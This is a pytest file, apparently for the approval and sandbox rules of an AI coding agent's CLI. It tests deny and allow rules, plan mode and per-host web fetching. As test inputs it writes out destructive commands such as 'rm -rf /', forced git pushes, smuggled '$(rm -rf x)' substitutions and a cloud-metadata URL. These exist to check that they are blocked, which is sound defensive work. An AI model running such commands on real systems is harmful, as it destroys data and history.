    assert not await _denied("rm -rf", command)


@pytest.mark.parametrize(("command", "denied"), [
    ("rm -fr /", True), ("rm -r -f /", True), ("rm --recursive --force /", True), ("rm -rf /tmp/x /", True),
    ("rm -rf ./build", False), ("rm -r /", False),
])
async def test_a_rule_with_an_operand(command: str, denied: bool) -> None:
    assert await _denied("rm -rf /", command) is denied


@pytest.mark.parametrize(("command", "denied"), [
    ("git push -f origin main", True), ("git push origin main --force", True), ("git push --force", True),
    ("git push --force-with-lease", False), ("git push origin main", False), ("git pull -f", False),
])
async def test_git_push_force(command: str, denied: bool) -> None:
    assert await _denied("git push --force", command) is denied


async def test_chmod_recursive_long_option_is_capital_r() -> None:
    assert await _denied("chmod -R 777", "chmod --recursive 777 .")
    assert not await _denied("chmod -R 777", "chmod -r 777 .")  # for chmod, -r is a mode, not recursion


async def test_allow_rules_stay_word_for_word() -> None:
    approve = make_approver("ask", allow=["run_shell:ls -la"])
    assert await approve(_shell_call("ls -la src"), SHELL)
    refusal = await refused(approve(_shell_call("ls -al src"), SHELL))
    assert re.search("nobody can approve", refusal), refusal


# A deny rule matches an unambiguous prefix of a long option, as GNU getopt accepts one
@pytest.mark.parametrize(("rule", "command"), [
    ("rm -rf", "rm --rec --for DIR"), ("rm -rf", "rm --recursive=yes --f DIR"), ("rm -rf", "rm --forc -R DIR"),
    ("git push --force", "git push --forc origin main"), ("git push --force", "git push origin --fo"),
    ("chmod -R 777", "chmod --rec 777 ."), ("git reset --hard", "git reset --ha HEAD~1"),
    ("rm -rf", "sudo rm --re=1 --fo x"),
])
async def test_abbreviated_long_options_match(rule: str, command: str) -> None:
    assert await _denied(rule, command)


@pytest.mark.parametrize(("rule", "command"), [
    ("rm -rf", "rm --verbose --force x"), ("git push --force", "git push --force-with-lease"),
    ("rm -rf", "rm -- --rec --for"),
])
async def test_other_long_options_do_not_match(rule: str, command: str) -> None:
    assert not await _denied(rule, command)


# Splitting is quote-aware: a quoted separator is an argument, so the words after it stay in the command
@pytest.mark.parametrize(("rule", "command"), [
    ("git push --force", 'git push ";" --force'), ("git push --force", "git push '&&' --force"),
    ("rm -rf", 'echo "$(rm -rf x)"'), ("rm -rf", "echo `rm -rf x`"), ("rm -rf", "cat <(rm -rf x)"),
])
async def test_quoted_separators_do_not_split_a_command(rule: str, command: str) -> None:
    assert await _denied(rule, command)


async def test_a_quoted_separator_is_not_a_new_command_for_allow_rules() -> None:
    # `echo "a; b"` is one command: allowed by `echo`, though its text holds a `;`
    approve = make_approver("ask", allow=["run_shell:echo"])
    assert await approve(_shell_call('echo "a; rm -rf x"'), SHELL)
    refusal = await refused(approve(_shell_call("echo a; rm -rf x"), SHELL))
    assert re.search("nobody can approve", refusal), refusal


def test_yes_with_the_read_only_policy_is_refused_not_loosened() -> None:
    # `crow run --yes --approval read-only` is refused, never a run that writes
    from crow_cli.errors import ConfigError
    from crow_cli.tools.approval import make_approver

    with pytest.raises(ConfigError, match="--yes conflicts with the approval policy 'read-only'"):
        make_approver("read-only", yes=True)
    assert make_approver("auto-edit", yes=True).policy.mode == "yolo"


def test_every_surface_s_start_policy_is_one_decision() -> None:
    from crow_cli.errors import ConfigError
    from crow_cli.tools.approval import start_policy

    assert start_policy(None) == "ask" and start_policy("read-only") == "read-only"
    assert start_policy("auto-edit", yes=True) == "yolo" and start_policy(None, yes=True) == "yolo"
    with pytest.raises(ConfigError, match="--yes conflicts"):
        start_policy("read-only", yes=True)


async def test_a_never_answer_refuses_later_calls_of_the_tool_without_asking() -> None:
    asker = Asker(Answer("never"))
    approve = Approvals(ApprovalPolicy("ask"), asker)
    refusal = await refused(approve(_call("deploy", target="prod"), deploy))
    assert re.search("the user declined deploy", refusal), refusal
    refusal = await refused(approve(_call("deploy", target="staging"), deploy))
    assert re.search("the user rejected deploy for this session", refusal), refusal
    assert asker.asked == ["deploy"]


async def test_leaving_the_sandbox_is_never_asked_under_read_only_or_after_never() -> None:
    asker = Asker(Answer("yes"))
    call, shell = _call("run_shell", command="make"), TOOLS["run_shell"]
    assert await Approvals(ApprovalPolicy("ask"), asker).escalate(call, shell, "no network")
    assert not await Approvals(ApprovalPolicy("read-only"), asker).escalate(call, shell, "no network")
    assert not await Approvals(ApprovalPolicy("ask"), asker, never={"run_shell"}).escalate(call, shell, "no network")
    assert not await Approvals(ApprovalPolicy("ask")).escalate(call, shell, "no network")  # nobody to ask
    assert asker.asked == ["run_shell"]


async def test_a_command_the_person_typed_runs_unasked_unless_a_rule_or_leaving_the_sandbox_says_otherwise(
        monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from crow_cli.tools import sandbox
    from crow_cli.tools.context import ToolContext, using_context

    asker = Asker(Answer("no"))
    typed = make_approver("ask", deny=["run_shell:rm"], ask=asker).typed_by_person()
    with using_context(ToolContext(tmp_path, sandbox=sandbox.Sandbox("off"))):
        assert await typed(_call("run_shell", command="make test"), TOOLS["run_shell"])
        refusal = await refused(typed(_call("run_shell", command="rm -rf build"), TOOLS["run_shell"]))
        assert re.search("denied by the rule 'run_shell:rm'", refusal), refusal
    assert asker.asked == []
    monkeypatch.setattr(sandbox, "_probe", lambda: (None, "bubblewrap (bwrap) is not installed"))
    with using_context(ToolContext(tmp_path, sandbox=sandbox.Sandbox("workspace-write"))):
        refusal = await refused(typed(_call("run_shell", command="make test"), TOOLS["run_shell"]))  # typing: no yes
    assert "the user declined run_shell" in refusal
    assert asker.asked == ["run_shell"]


async def test_web_fetch_is_asked_about_per_host_and_the_config_allows_a_host_whatever_the_policy() -> None:
    """An "always" about web_fetch is for the URL's host; a host `[web] allow_hosts` names runs unasked, even
    under read-only; a private address literal is answered without a question."""
    from dataclasses import replace

    from crow_cli.tools.context import ToolContext, WebAccess, using_context

    fetch = TOOLS["web_fetch"]
    call = _call("web_fetch", url="https://docs.python.org/3/library/")
    assert always_scope(call, fetch) == ("docs.python.org",)
    asked: list[Question] = []

    async def ask(question: Question) -> Answer:
        asked.append(question)
        return Answer("always", question.scope)

    approvals = make_approver("ask", ask=ask)
    assert await approvals(call, fetch)
    assert await approvals(_call("web_fetch", url="https://docs.python.org/other"), fetch)  # same host: unasked
    assert len(asked) == 1 and asked[0].preview.startswith("fetch https://docs.python.org/3/library/")
    refusal = await refused(make_approver("read-only")(call, fetch))
    with using_context(replace(ToolContext(), web=WebAccess(("docs.python.org",)))):
        assert await make_approver("read-only")(call, fetch)
        refusal = await refused(make_approver("yolo", deny=["web_fetch:docs.python.org"])(call, fetch))
        assert re.search("denied by the rule", refusal), refusal
    with pytest.raises(ToolError, match="is a link-local address"):
        await make_approver("ask", ask=ask)(_call("web_fetch", url="http://169.254.169.254/latest/"), fetch)
    assert len(asked) == 1


# plan mode: reads and read-only commands only, decided here

@pytest.mark.parametrize(("line", "confined", "reads"), [
    ("ls -la", False, True), ("cat a | grep x | sort | wc -l", False, True), ("find . -name '*.py'", False, True),
    ("head -n 5 a && tail b", False, True), ("git status", True, True), ("git diff HEAD~1", True, True),
    ("git status", False, False),  # git runs what the repository's config names: only under the read-only sandbox
    ("find . -delete", False, False), ("find . -exec rm {} ;", False, False), ("find . -fprint x", False, False),
    ("ls > listing", False, False), ("echo $(touch x)", False, False), ("ls; rm x", False, False),
    ("sort -o out a", False, False), ("rg --pre ./run x", False, False), ("git diff --output=x", True, False),
    ("git branch -D main", True, False), ("rm -rf x", False, False), ("python -c 'print(1)'", False, False),
    ("sudo ls", False, False), ("sh -c 'ls'", False, False),
])
def test_plan_mode_takes_only_commands_that_read(line: str, confined: bool, reads: bool) -> None:
    assert read_only_command(line, confined) is reads


async def test_plan_mode_refuses_a_write_and_a_command_that_writes_saying_the_session_is_planning() -> None:
    asker = Asker(Answer("yes"))
    approve = make_approver("plan", ask=asker)
    for name, args in (("write_file", {"path": "a.txt", "content": "x"}), ("run_shell", {"command": "touch x"}),
                       ("deploy", {"target": "prod"})):
        tool_ = deploy if name == "deploy" else TOOLS[name]
        denied = await approve(_call(name, **args), tool_)
        assert isinstance(denied, Deny) and "the session is planning" in denied.reason
        assert denied.shown == "the session is planning"
    assert asker.asked == []  # refused, nobody asked


async def test_plan_mode_runs_a_read_only_command_without_asking_and_never_outside_the_sandbox() -> None:
    asker = Asker(Answer("yes"))
    approve = make_approver("plan", ask=asker)
    with using_context(ToolContext(sandbox=Sandbox("off"))):
        assert await approve(_call("run_shell", command="ls -la"), TOOLS["run_shell"])
    assert asker.asked == []
    assert not await approve.escalate(_call("run_shell", command="ls"), TOOLS["run_shell"], "blocked")


async def test_a_mode_change_is_noted_once_until_the_mode_changes_again() -> None:
    approve = make_approver("ask")
    history: list = [{"role": "user", "content": "hi"}]
    assert approve.mode_note(history) is None  # the system prompt states the mode in force
    approve.set_mode("plan")
    note = approve.mode_note(history)
    assert note is not None and note["content"].startswith("[crow: the approval mode is now plan: you are planning")
    history.append(note)
    assert approve.mode_note(history) is None
    approve.set_mode("ask")  # back to what the system prompt says: the last note said plan, so a note again
    assert approve.mode_note(history)["content"].startswith("[crow: the approval mode is now ask:")


async def test_a_plan_with_nobody_to_review_it_ends_the_run_and_outside_plan_mode_is_refused() -> None:
    approve = make_approver("plan")
    assert "Stop here" in await approve.exit_plan("# Plan")
    assert approve.take_plan() == "# Plan" and approve.take_plan() is None
    approve.set_mode("ask")
    with pytest.raises(ToolDenied, match="not planning"):
        await approve.exit_plan("# Plan")


async def test_the_review_decides_the_next_mode_or_keeps_planning_with_the_note() -> None:
    answers = [PlanAnswer("keep", "name it b.txt"), PlanAnswer("auto-edit")]
    changed: list[str] = []

    async def review(plan: str) -> PlanAnswer:
        return answers.pop(0)

    approve = make_approver("plan")
    approve.review, approve.mode_changed = review, changed.append
    with pytest.raises(ToolDenied, match=r"keep planning: name it b\.txt"):
        await approve.exit_plan("# Plan")
    assert approve.policy.mode == "plan"
    assert (await approve.exit_plan("# Plan 2")).startswith("The user approved the plan; the approval mode is now "
                                                           "auto-edit")
    assert approve.policy.mode == "auto-edit" and changed == ["auto-edit"] and approve.take_plan() is None


def test_yes_is_refused_with_the_plan_policy() -> None:
    with pytest.raises(ConfigError, match="--yes conflicts with the approval policy 'plan'"):
        make_approver("plan", yes=True)
